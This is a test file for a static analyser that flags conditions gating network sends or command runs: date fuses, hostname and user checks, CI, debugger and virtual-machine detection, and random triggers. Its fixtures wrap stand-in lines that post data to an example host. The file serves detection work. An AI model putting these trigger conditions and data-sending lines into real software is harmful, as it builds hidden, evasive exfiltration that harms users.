import { describe, expect, test } from "vitest";
import type { Guard } from "../../src/model/context.ts";
import { guardsOf } from "../../src/read/guards.ts";
import { readFile } from "../../src/read/read-file.ts";

test.each<[string, string, readonly Guard[]]>([
  ["a moment that is written out", 'Date.now() > Date.parse("2027-04-01")', ["date"]],
  ["seconds since 1970", "time.time() > 1798761600", ["date"]],
  ["a day of Python", "datetime.date.today() >= datetime.date(2027, 4, 1)", ["date"]],
  ["a month", "new Date().getMonth() === 3", ["date"]],
  ["a day in shell", '[ "$(date +%Y%m%d)" -gt 20270401 ]', ["date"]],
  ["the name of the machine", 'os.hostname() !== "build-01"', ["host"]],
  ["the name in shell", '[ "$(hostname)" = "build-01" ]', ["host"]],
  ["the user", "getpass.getuser() == 'sam'", ["user"]],
  ["a build server", "process.env.CI || process.env.GITHUB_ACTIONS", ["ci"]],
  ["a debugger", "sys.gettrace() is None", ["analysis"]],
  ["a virtual machine", 'product.includes("VirtualBox")', ["analysis"]],
  ["a country", 'info.country_code != "US"', ["locale"]],
  ["chance", "Math.random() < 0.02", ["chance"]],
  ["a number of runs", "state.runCount > 5", ["count"]],
  ["two of them", 'Math.random() < 0.5 && os.hostname() === "x"', ["host", "chance"]],
  ["the age of a cache", "Date.now() - cached.at > 3600000", []],
  ["a limit by the minute", "time.time() - last_call < 60", []],
  ["office hours", "8 <= datetime.now().hour < 18", []],
  ["a moment that comes from elsewhere", "new Date() > new Date(token.expires_at)", []],
  ["the rights of the administrator", '[ "$EUID" -ne 0 ]', []],
  ["a path of the user", '[ -d "$HOME/notes" ]', []],
  ["a value", "items.length > 5", []],
])("%s", (_name, condition, expected) => {
  expect(guardsOf(condition)).toEqual(expected);
});

async function guarded(name: string, text: string): Promise<readonly string[]> {
  const { facts } = await readFile({ path: name, bytes: new TextEncoder().encode(text), mode: null });
  return facts.flatMap((fact) =>
    fact.kind === "operation" && (fact.operation.op === "send" || fact.operation.op === "spawn")
      ? [`${fact.at.line} ${fact.operation.op} ${(fact.context.guards ?? []).join("+")}`.trim()]
      : [],
  );
}

const POST = 'fetch("https://in.example/x", { method: "POST", body: text });';

describe("JavaScript", () => {
  test("inside and after a branch", async () => {
    const text = `if (Date.now() > Date.parse("2027-04-01")) {\n  ${POST}\n}\n${POST}`;
    expect(await guarded("a.js", text)).toEqual(["2 send date", "4 send"]);
  });

  test("the other branch", async () => {
    const text = `if (process.env.CI) {\n  console.log(1);\n} else {\n  ${POST}\n}`;
    expect(await guarded("a.js", text)).toEqual(["4 send ci"]);
  });

  test("after an early return, to the end of the function", async () => {
    const text = `function go(text) {\n  if (os.hostname() === "build-01") return;\n  ${POST}\n}\ngo("a");\n${POST}`;
    expect(await guarded("a.js", text)).toEqual(["3 send host", "6 send"]);
  });

  test("a function that is called in the branch", async () => {
    const text = `function go(text) {\n  ${POST}\n}\nif (Math.random() < 0.1) go("a");`;
    expect(await guarded("a.js", text)).toEqual(["2 send chance"]);
  });

  test("a name for the condition, a variable or a function", async () => {
    const due = 'const due = Date.now() > Date.parse("2027-04-01");\n';
    expect(await guarded("a.js", `${due}if (due) ${POST}`)).toEqual(["2 send date"]);
    const ready = "function ready() { return os.hostname() === 'x'; }\n";
    expect(await guarded("a.js", `${ready}if (ready()) ${POST}`)).toEqual(["2 send host"]);
  });

  test("the right side of &&", async () => {
    expect(await guarded("a.js", `Math.random() < 0.1 && ${POST}\n${POST}`)).toEqual(["1 send chance", "2 send"]);
  });
});

const PUT = 'requests.post("https://in.example/x", data=text)';

describe("Python", () => {
  test("inside and after a branch", async () => {
    const text = `import requests, time\nif time.time() > 1798761600:\n    ${PUT}\n${PUT}`;
    expect(await guarded("a.py", text)).toEqual(["3 send date", "4 send"]);
  });

  test("after an early return", async () => {
    const text = `import requests, sys\ntext = "a"\ndef go():\n    if sys.gettrace() is not None:\n        return\n    ${PUT}\ngo()\n${PUT}`;
    expect(await guarded("a.py", text)).toEqual(["6 send analysis", "8 send"]);
  });

  test("names of both parts of the condition", async () => {
    const text = `import requests, datetime\nFUSE = datetime.date(2027, 4, 1)\ntoday = datetime.date.today()\nif today > FUSE:\n    ${PUT}`;
    expect(await guarded("a.py", text)).toEqual(["5 send date"]);
  });
});

describe("shell", () => {
  test("inside and after a branch", async () => {
    const text = 'if [ "$(hostname)" = "build-01" ]; then\n  make deploy\nfi\nmake test';
    expect(await guarded("a.sh", text)).toEqual(["1 spawn", "2 spawn host", "4 spawn"]);
  });

  test("what stands behind &&, and what follows an exit", async () => {
    const list = '[ "$RANDOM" -gt 30000 ] && make deploy\nmake test';
    expect(await guarded("a.sh", list)).toEqual(["1 spawn chance", "2 spawn"]);
    const exit = 'D=$(date +%Y%m%d)\n[ "$D" -lt 20270401 ] && exit 0\nmake deploy';
    expect(await guarded("a.sh", exit)).toEqual(["1 spawn", "3 spawn date"]);
  });
});

test("a long condition and thousands of them are read in time", async () => {
  const long = `if (${"a && ".repeat(2_000)}Math.random() > 0.5) ${POST}\n`;
  expect((await guarded("a.js", long)).length).toBe(1);
  const many = `if (Math.random() > 0.5) { let a${"= 1; }\nif (Math.random() > 0.5) { let a".repeat(5_000)}; }\n${POST}`;
  expect((await guarded("a.js", many)).length).toBeGreaterThan(0);
});
